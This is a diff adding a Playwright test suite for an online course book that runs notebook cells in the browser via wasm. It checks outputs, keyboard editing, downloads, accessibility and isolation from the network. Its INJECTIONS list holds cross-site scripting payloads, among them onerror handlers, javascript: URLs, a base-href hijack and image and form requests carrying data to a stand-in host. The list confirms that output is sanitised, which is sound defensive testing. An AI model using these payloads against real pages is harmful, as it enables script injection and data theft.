@@ -1,0 +1,383 @@
+"""The pages that run in the browser: every chapter in wasm, one page in Chromium.
+
+`make live` builds them and runs this; without them there is nothing to try.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import functools
+import http.server
+import json
+import re
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, Locator, Page, expect
+from test_browser import WCAG, Quiet, Visit, browser  # noqa: F401, a fixture
+
+import olc
+from tools import book, live
+
+BUILT = sorted(book.HTML.glob("_static/live-*"))
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(not BUILT, reason="no live pages: make live builds them"),
+]
+CHAPTER = "online_game"
+LONG = 180_000  # milliseconds, on a busy machine
+
+
+# --- every chapter in wasm ------------------------------------------------------------
+
+
+def plain(text: str) -> str:
+    """Return a text without the blanks by which pandas fits a table to a screen."""
+    return re.sub(r"[\s\\]+", " ", book.sanitize(text)).strip()
+
+
+@pytest.mark.parametrize("path", book.notebooks(), ids=lambda path: path.stem)
+def test_every_cell_gives_in_wasm_what_is_stored(path: Path) -> None:
+    ran = json.loads((live.CACHE / "runs" / f"{path.stem}.json").read_text("utf-8"))
+    cells = [c for c in nbformat.read(path, 4).cells if c.cell_type == "code"]
+    differences = []
+    for number, (cell, got) in enumerate(zip(cells, ran["shown"], strict=True), 1):
+        shown = {kind: text for kind, text in got["outputs"]}
+        wanted: dict[str, str] = {}
+        for output in cell.outputs:
+            data = output.get("data", {})
+            wanted |= {"printed": output.text} if "text" in output else {}
+            wanted |= {
+                kind: data[mime]
+                for kind, mime in (("html", "text/html"), ("markdown", "text/markdown"))
+                if mime in data
+            }
+            if "text/plain" in data:
+                wanted["text"] = data["text/plain"]
+        if got["text"] is not None:
+            shown["text"] = got["text"]
+        if "html" in wanted and "Figure" not in wanted["text"][:8]:
+            # A table is what its HTML shows; pandas cuts the text to a screen's width.
+            shown.pop("text", None), wanted.pop("text")
+        if {k: plain(v) for k, v in shown.items()} != {
+            k: plain(v) for k, v in wanted.items()
+        }:
+            differences.append((number, wanted, shown))
+    assert differences == []
+
+
+# --- one chapter in Chromium ----------------------------------------------------------
+
+
+@contextlib.contextmanager
+def serving(folder: Path, under: str = "/") -> Iterator[tuple[str, list[str]]]:
+    """Serve a folder below a path; give the address and what is asked for."""
+    asked: list[str] = []
+
+    class Below(Quiet):
+        def translate_path(self, path: str) -> str:
+            asked.append(path)
+            inside = path.startswith(under)
+            return super().translate_path(path[len(under) - 1 :] if inside else "/?")
+
+    handler = functools.partial(Below, directory=str(folder))
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_address[1]}{under}", asked
+        server.shutdown()
+        thread.join()
+
+
+class Live:
+    """A page after the press, and how a reader works with it."""
+
+    def __init__(self, page: Page):
+        self.page = page
+        self.status = page.locator(".olc-live [role=status]")
+
+    def press(self) -> Live:
+        self.page.get_by_role("button", name="Run this page").click()
+        return self
+
+    def wait(self, words: str = "Ready.|has failed|is ready") -> Live:
+        expect(self.status).to_have_text(re.compile(words), timeout=LONG)
+        return self
+
+    def cell(self, number: int) -> Locator:
+        return self.page.locator("article div.cell").nth(number - 1)
+
+    def write(self, number: int, code: str) -> None:
+        cell = self.cell(number)
+        for folded in cell.locator("details").all():
+            folded.evaluate("d => d.open = true")
+        cell.locator(".cm-content").click()
+        self.page.keyboard.press("Control+a")
+        self.page.keyboard.insert_text(code)
+
+    def run(self, number: int, code: str) -> Locator:
+        """Type code into a cell and run it; return where it shows what it gives."""
+        self.write(number, code)
+        self.status.evaluate("s => s.textContent = ''")
+        self.page.keyboard.press("Shift+Enter")
+        self.wait()
+        return self.cell(number).locator(".cell_output")
+
+
+@pytest.fixture(scope="module")
+def site() -> Iterator[tuple[str, list[str]]]:
+    with serving(book.HTML, "/course/2026/") as served:
+        yield served
+
+
+@pytest.fixture(scope="module")
+def visit(browser: Browser, site: tuple[str, list[str]]) -> Iterator[Visit]:  # noqa: F811
+    visit = Visit(browser, site[0]).open(f"book/{CHAPTER}.html")
+    visit.page.wait_for_load_state("networkidle")
+    yield visit
+    visit.page.close()
+
+
+@pytest.fixture(scope="module")
+def before(visit: Visit, site: tuple[str, list[str]]) -> list[str]:
+    """What is asked for before the press."""
+    return list(site[1])
+
+
+@pytest.fixture(scope="module")
+def running(visit: Visit, before: list[str]) -> Live:
+    return Live(visit.page).press().wait("Ready.")
+
+
+def test_before_the_press_only_the_button_is_asked_for(before: list[str]) -> None:
+    assert [path.rpartition("/")[2] for path in before if "/live-" in path] == [
+        "button.js"
+    ]
+
+
+def test_all_cells_run_without_a_request_to_another_host(
+    running: Live, visit: Visit
+) -> None:
+    assert running.page.locator(".olc-error").count() == 0
+    assert visit.strangers == []
+    assert visit.complaints == []
+
+
+def test_a_figure_is_drawn_again_as_the_book_drew_it(running: Live) -> None:
+    page = (book.HTML / "book" / f"{CHAPTER}.html").read_text("utf-8")
+    first = running.page.locator("figure.olc-figure").first
+    for mark in ("use", "text", "path"):
+        there = re.search(r'<figure class="olc-figure.*?</figure>', page, re.S)
+        assert there is not None
+        drawn = len(re.findall(rf"<{mark}\b", there[0]))
+        assert first.locator(mark).count() == drawn > 0
+    placed = first.locator("use").first
+    assert placed.get_attribute("x") is not None
+    assert re.fullmatch("#.+", placed.get_attribute("href") or "")
+
+
+def test_an_explorer_answers(running: Live) -> None:
+    figure = running.page.locator("figure.olc-explorer").first
+    says = figure.locator(".olc-says")
+    before = says.text_content()
+    figure.locator("input").first.focus()
+    running.page.keyboard.press("ArrowRight")
+    assert says.text_content() != before
+    assert figure.locator(".olc-panels use").count() > 0
+
+
+def test_an_edited_cell_shows_what_it_gives(running: Live) -> None:
+    output = running.run(2, "print('hello')\nlimits.shape, Contrary.__name__")
+    assert output.locator(".stream").inner_text().strip() == "hello"
+    assert output.locator(".text_plain").inner_text() == "((8, 7), 'Contrary')"
+    output = running.run(2, "pd.DataFrame({'a': [1]})")
+    assert output.locator("table.dataframe td").inner_text() == "1"
+    output = running.run(2, "import matplotlib.pyplot as plt\nplt.plot([1, 2]);")
+    assert output.locator("img").evaluate("i => i.complete && i.naturalWidth > 300")
+    output = running.run(2, "olc.Listing(olc.Perceptron)")
+    assert output.locator("pre").inner_text().startswith("class Perceptron(Linear):")
+
+
+def test_a_missing_package_is_loaded_when_it_is_needed(running: Live) -> None:
+    output = running.run(2, "import scipy.special\nfloat(scipy.special.expit(0))")
+    assert output.inner_text().strip() == "0.5"
+
+
+def test_an_error_begins_with_its_message(running: Live) -> None:
+    output = running.run(2, "def halve(x):\n    return x / 0\n\nhalve(1)")
+    lines = output.locator(".olc-error").inner_text().splitlines()
+    assert lines == [
+        "ZeroDivisionError: division by zero",
+        "cell 2, line 4: halve(1)",
+        "cell 2, line 2: return x / 0",
+    ]
+    assert "ZeroDivisionError" in running.status.inner_text()
+    output = running.run(2, "1 +")
+    assert output.locator(".olc-error").inner_text().startswith("SyntaxError")
+
+
+INJECTIONS = [
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror='window.pwned = 1'>",
+    "<svg onload='window.pwned = 1'></svg>",
+    "<svg><script>window.pwned = 1</script></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned=1></svg>#x'/></svg>",
+    "<a href='javascript:window.pwned = 1' class='bait'>x</a>",
+    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
+    "<iframe src='javascript:parent.pwned = 1'></iframe>",
+    "<object data='javascript:window.pwned = 1'></object>",
+    "<details open ontoggle='window.pwned = 1'><summary>x</summary></details>",
+    "<meta http-equiv='refresh' content='0;url=about:blank'>",
+    "<base href='https://stranger.invalid/'>",
+    "<style>body { display: none }</style>",
+    "<link rel='stylesheet' href='https://stranger.invalid/x.css'>",
+    "<img src='https://stranger.invalid/?secret'>",
+    "<form action='https://stranger.invalid/'><button class='bait'>x</button></form>",
+    "<math><mtext><img src=x onerror='window.pwned = 1'></mtext></math>",
+    "<figure class='olc-explorer'><div class='olc-controls' hidden></div><div class="
+    "'olc-panels'></div><p class='olc-says'></p><select><option>a<option>b</select>"
+    '<script type="application/json">{"parts": ["<img src=x onerror=pwned=1>"], '
+    '"frames": [[0], [0]], "alts": ["", ""], "labels": ["", ""]}</script>'
+    "<script>window.pwned = 1</script></figure>",
+]
+
+
+@pytest.mark.parametrize("html", INJECTIONS)
+def test_what_a_cell_gives_does_nothing_to_the_page(
+    running: Live, visit: Visit, html: str
+) -> None:
+    here = running.page.url
+    shown = f"type('Bait', (), {{'_repr_html_': lambda _: {html!r}}})()"
+    output = running.run(2, shown)
+    if output.locator("select").count():
+        output.locator("select").select_option("b")
+    for bait in output.locator(".bait").all():
+        bait.click()
+    running.page.wait_for_timeout(50)
+    # As text, in a value, on the standard output and in an error.
+    for code in (
+        f"type('Bait', (), {{'__repr__': lambda _: {html!r}}})()",
+        f"print({html!r})",
+        f"raise ValueError({html!r})",
+    ):
+        output = running.run(2, code)
+        assert output.locator("script, img, iframe, svg, meta, form").count() == 0
+        assert html[:20] in output.inner_text()
+    assert running.page.evaluate("window.pwned") is None
+    assert running.page.url == here
+    assert running.page.evaluate("document.baseURI") == here
+    assert running.page.locator("h1").is_visible()
+    assert [url for url in visit.strangers if "stranger" in url] == []
+    visit.complaints.clear()  # the browser says what it has refused
+
+
+def test_python_reaches_no_other_host(
+    running: Live, visit: Visit, tmp_path: Path
+) -> None:
+    with serving(tmp_path) as (other, asked):
+        code = f"import js\nawait_ = js.fetch({other!r})\nawait_.catch(lambda e: 0)\n1"
+        running.run(2, code)
+        code = (
+            f"from js import XMLHttpRequest as X\nx = X.new()\nx.open('GET', {other!r}"
+        )
+        output = running.run(2, f"{code}, False)\nx.send()")
+        assert output.locator(".olc-error").count() == 1
+        assert asked == []
+    visit.complaints.clear()
+
+
+def test_what_is_typed_is_kept_until_reset(running: Live, site: Any) -> None:
+    running.run(3, "'mine'")
+    with running.page.context.new_page() as page:
+        page.goto(f"{site[0]}book/{CHAPTER}.html")
+        again = Live(page).press()
+        expect(again.cell(3).locator(".cm-content")).to_have_text("'mine'")
+        reset = again.cell(3).get_by_role("button", name="Reset")
+        reset.click()
+        expect(again.cell(3).locator(".cm-content")).to_contain_text("parcels = [6, 0")
+        expect(reset).to_be_hidden()
+        assert "mine" not in page.evaluate("JSON.stringify(localStorage)")
+
+
+def test_the_page_becomes_a_notebook(running: Live) -> None:
+    running.write(3, "'typed'")
+    with running.page.expect_download() as download:
+        running.page.get_by_role("button", name="Download as notebook").click()
+    notebook = nbformat.read(download.value.path(), as_version=4)
+    nbformat.validate(notebook)
+    codes = [cell for cell in notebook.cells if cell.cell_type == "code"]
+    assert download.value.suggested_filename == f"{CHAPTER}.ipynb"
+    assert codes[2].source == "'typed'"
+    assert codes[2].outputs == []
+    assert len(codes) == running.page.locator("article div.cell").count()
+    running.cell(3).get_by_role("button", name="Reset").click()
+
+
+def test_a_link_is_shown_and_never_runs_by_itself(running: Live, site: Any) -> None:
+    running.write(4, "x = 'from afar'\nx")
+    running.cell(4).get_by_role("button", name="Copy a link").click()
+    address = running.page.url
+    running.cell(4).get_by_role("button", name="Reset").click()
+    running.page.evaluate("history.replaceState(null, '', location.pathname)")
+    with running.page.context.new_page() as page:
+        page.goto(address)
+        expect(page.locator(".olc-live")).to_contain_text("does not run by itself")
+        linked = Live(page).press()
+        expect(linked.cell(4).locator(".cm-content")).to_contain_text("from afar")
+        linked.wait("Ready.")
+        linked.status.evaluate("s => s.textContent = ''")
+        page.get_by_role("button", name="Run all cells").click()
+        linked.wait("Ready.")
+        assert "from afar" not in linked.cell(4).locator(".cell_output").inner_text()
+        assert "afar" not in page.evaluate("JSON.stringify(localStorage)")
+        linked.cell(4).get_by_role("button", name="Run cell 4").click()
+        expect(linked.cell(4).locator(".cell_output")).to_have_text("'from afar'")
+
+
+@pytest.mark.skipif(not hasattr(olc, "check"), reason="this olc checks no answers")
+def test_an_exercise_answers(running: Live) -> None:
+    output = running.run(2, "olc.check('perceptron-ties-plus', olc.Perceptron)")
+    assert "Not yet" in output.inner_text()
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_editors_and_errors_are_accessible(running: Live, theme: str) -> None:
+    running.page.evaluate("t => document.documentElement.dataset.theme = t", theme)
+    running.run(2, "print('x' * 300)\n1 / 0")
+    options = {"runOnly": {"type": "tag", "values": WCAG}}
+    found = Axe().run(running.page, options=options).response["violations"]
+    assert [(v["id"], [n["html"] for n in v["nodes"]]) for v in found] == []
+
+
+def test_an_endless_loop_is_stopped_and_python_starts_again(running: Live) -> None:
+    running.write(2, "while True:\n    pass")
+    running.page.keyboard.press("Shift+Enter")
+    running.wait("Cell 2 of")
+    running.page.get_by_role("button", name="Stop").click()
+    expect(running.status).to_contain_text("has forgotten", timeout=1000)
+    expect(running.cell(2).locator(".olc-error")).to_contain_text("Stopped.")
+    running.wait("is ready")
+    assert "NameError" in running.run(2, "limits").inner_text()
+    running.cell(2).get_by_role("button", name="Reset").click()
+    running.cell(3).get_by_role("button", name="Run all above").click()
+    running.wait("Ready.")
+    assert running.run(3, "limits.shape").inner_text().strip() == "(8, 7)"
+
+
+def test_a_heavy_chapter_says_so(browser: Browser, site: Any) -> None:  # noqa: F811
+    visit = Visit(browser, site[0], formulas=False).open("book/spelling.html")
+    expect(visit.page.locator(".olc-live")).to_contain_text("This chapter is heavy")
+    visit.page.close()
+
+
+def test_a_file_on_disk_has_no_button(browser: Browser) -> None:  # noqa: F811
+    origin = f"{book.HTML.as_uri()}/"
+    visit = Visit(browser, origin, formulas=False).open(f"book/{CHAPTER}.html")
+    assert visit.page.locator(".olc-live").count() == 0
+    assert visit.complaints == []
+    visit.page.close()
